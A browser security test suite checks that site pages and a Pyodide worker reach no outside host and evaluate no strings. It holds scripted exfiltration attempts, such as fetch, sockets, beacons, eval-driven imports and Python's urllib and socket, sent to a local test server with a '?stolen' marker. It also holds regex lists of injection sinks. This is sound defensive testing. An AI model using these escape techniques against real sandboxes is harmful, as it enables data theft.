"""What a page may contact, tried from where it would hurt: from Python in the worker."""

import re
from pathlib import Path

import pytest
from playwright.sync_api import Page, expect

from tests.browser.test_faults import UNSEALED
from tests.harness.pages import asset
from tests.harness.server import Server

ROOT = Path(__file__).parents[2]
# Strings as code are tried in the worker only: what a driver evaluates in a page may eval whatever the policy says.
BREAK_OUT = """
async (url) => {
  const tried = {};
  const attempt = async (name, act) => {
    try { tried[name] = String(await act()); } catch (error) { tried[name] = "refused"; }
  };
  await attempt("fetch", () => fetch(url, { mode: "no-cors" }).then(() => "sent"));
  const image = new Image();
  await attempt("image", () => new Promise((ok, no) => { image.onload = () => ok("sent"); image.onerror = no; image.src = url; }));
  await attempt("html", () => { document.createElement("p").innerHTML = "<b></b>"; });
  await attempt("document", () => { document.write("<b></b>"); });
  await attempt("script", () => { document.createElement("script").text = "1"; });
  await attempt("worker", () => new Worker(location.href));
  await attempt("policy", () => trustedTypes.createPolicy("default", { createHTML: (html) => html }));
  const style = document.createElement("style");
  style.textContent = "body { color: rgb(1, 2, 3) }";
  document.head.append(style);
  tried.style = getComputedStyle(document.body).color === "rgb(1, 2, 3)" ? "ran" : "refused";
  return tried;
}
"""
# Runs as a module in a worker of the page, with the real worker's hardening done by hand: the policy alone must hold.
WORKER = """
const tried = {};
const attempt = async (name, act) => {
  try { tried[name] = String(await act()); } catch { tried[name] = "refused"; }
};
await attempt("fetch", () => fetch("URL", { mode: "no-cors" }).then(() => "sent"));
await attempt("request", () => new Promise((ok, no) => {
  const request = new XMLHttpRequest(); request.onload = () => ok("sent"); request.onerror = no;
  request.open("GET", "URL"); request.send();
}));
await attempt("socket", () => new Promise((ok, no) => {
  const socket = new WebSocket("URL".replace("http", "ws")); socket.onopen = () => ok("sent"); socket.onerror = no;
}));
await attempt("events", () => new Promise((ok, no) => {
  const events = new EventSource("URL"); events.onopen = () => ok("sent"); events.onerror = no;
}));
await attempt("font", () => new FontFace("x", "url(URLx.woff)").load().then(() => "sent"));
await attempt("import", () => import("URLx.mjs").then(() => "sent"));
await attempt("function", () => new Function("return 'ran'")());
postMessage(tried);
"""
START = """
([module, source]) => new Promise(async (resolve) => {
  const { trusted } = await import(module);
  const url = URL.createObjectURL(new Blob([source], { type: "text/javascript" }));
  const worker = new Worker(trusted(url), { type: "module" });
  worker.onmessage = ({ data }) => resolve(data);
})
"""


@pytest.mark.allows_errors
@pytest.mark.parametrize("path", ["", "checks/card/", "guides/services/payment-error/", "checks/connection/"])
def test_a_page_reaches_nobody_and_runs_no_strings(page: Page, server: Server, site: str, path: str) -> None:
    with Server(server.folder) as stranger:
        page.goto(site + path)
        trusted = site + asset(server.folder, "trusted.mjs")
        assert set(page.evaluate(BREAK_OUT, stranger.url).values()) == {"refused"}
        assert set(page.evaluate(START, [trusted, WORKER.replace("URL", stranger.url)]).values()) == {"refused"}
        assert not stranger.seen


def test_every_page_has_a_policy(site_folder: Path) -> None:
    pages = list(site_folder.rglob("*.html"))
    assert pages
    for file in pages:
        policies = re.findall(r'<meta http-equiv="Content-Security-Policy" content="([^"]*)">', file.read_text())
        assert len(policies) == 1, file
        assert "unsafe-inline" not in policies[0]
        assert "'unsafe-eval'" not in policies[0]


def test_no_module_of_ours_makes_html_or_code_of_a_string() -> None:
    """Browsers with Trusted Types refuse it; the others are to have nothing to refuse."""
    sinks = r"innerHTML|outerHTML|insertAdjacentHTML|HTMLUnsafe|createContextualFragment|document\.write|srcdoc"
    code = r"\beval\(|\bFunction\(|javascript:|importScripts\(|set(Timeout|Interval)\([\"'`]"
    scripts = [*(ROOT / "docs").rglob("*.js"), *(ROOT / "docs").rglob("*.mjs")]
    assert scripts
    found = [
        f"{file.name}: {match[0]}" for file in scripts for match in re.finditer(f"{sinks}|{code}", file.read_text())
    ]
    assert found == []


def test_python_has_no_way_out(page: Page, site: str) -> None:
    """The worker that answers has forgotten the network by the time a check runs."""
    page.goto(f"{site}checks/card/")
    with page.expect_event("worker") as started:
        page.get_by_label("Номер карты").fill("4111 1111 1111 1111")
    page.get_by_role("button", name="Проверить", exact=True).click()
    page.locator("output[data-level=ok]").wait_for()
    names = ["fetch", "XMLHttpRequest", "WebSocket", "EventSource", "importScripts", "Worker", "caches", "indexedDB"]
    left = started.value.evaluate("(names) => names.filter((name) => name in self)", names)
    assert left == []


# What a check could try that somebody has written to steal: Python reaches all of JavaScript.
ESCAPE = """
import js

WAYS = {
    "fetch": lambda: js.fetch(URL),
    "fetch of a prototype": lambda: js.Object.getPrototypeOf(js.Object.getPrototypeOf(js.self)).fetch(URL),
    "request": lambda: js.XMLHttpRequest.new().open("GET", URL),
    "socket": lambda: js.WebSocket.new(URL.replace("http", "ws")),
    "events": lambda: js.EventSource.new(URL),
    "script": lambda: js.importScripts(URL),
    "worker": lambda: js.Worker.new(URL),
    "beacon": lambda: js.navigator.sendBeacon(URL, "x"),
    "picture": lambda: js.Image.new(),
    "font": lambda: js.FontFace.new("x", f"url({URL})").load(),
    "fonts": lambda: js.fonts.load("1px x"),
    "channel": lambda: js.BroadcastChannel.new("x"),
    "cache": lambda: js.caches.open("x"),
    "database": lambda: js.indexedDB.open("x"),
    "text as a function": lambda: js.Function.new("url", "return import(url)")(URL),
    "text as a program": lambda: js.eval(f"import('{URL}')"),
    "Pyodide's fetch": lambda: __import__("pyodide.http").http.pyfetch(URL),
    "Pyodide's program": lambda: __import__("pyodide.code").code.run_js(f"import('{URL}')"),
    "Python's request": lambda: __import__("urllib.request").request.urlopen(URL, timeout=1),
    "Python's socket": lambda: __import__("socket").create_connection((URL.split("/")[2].split(":")[0], 80), 1),
}
begun = js.Array.new()
for name, way in WAYS.items():
    try:
        begun.push(js.Array.of(name, way()))
    except Exception:
        pass
begun
"""
DONE = """
async (script) => {
  // What a driver evaluates at once may eval whatever the policy says; here nothing else takes a moment.
  await WebAssembly.compile(Uint8Array.of(0, 97, 115, 109, 1, 0, 0, 0));
  const settled = [...self.python.runPython(script)].map(async ([name, begun]) => { await begun; return name; });
  return (await Promise.allSettled(settled)).filter(({ value }) => value).map(({ value }) => value);
}
"""


@pytest.mark.allows_errors
def test_python_cannot_break_out(page: Page, server: Server, site: str) -> None:
    """Neither to a stranger nor to our own server, which is told nothing either."""
    server.faults = {**UNSEALED}
    page.goto(f"{site}checks/card/")
    page.get_by_label("Номер карты").fill("4111 1111 1111 1111")
    page.get_by_role("button", name="Проверить", exact=True).click()
    expect(page.locator("output")).to_have_attribute("data-level", "ok")
    with Server(server.folder) as stranger:
        for url in (stranger.url, site):
            script = f"URL = {url + '?stolen'!r}\n{ESCAPE}"
            assert page.workers[0].evaluate(DONE, script) == []
        assert not stranger.asked
    assert not [asked for asked in server.asked if "stolen" in asked]
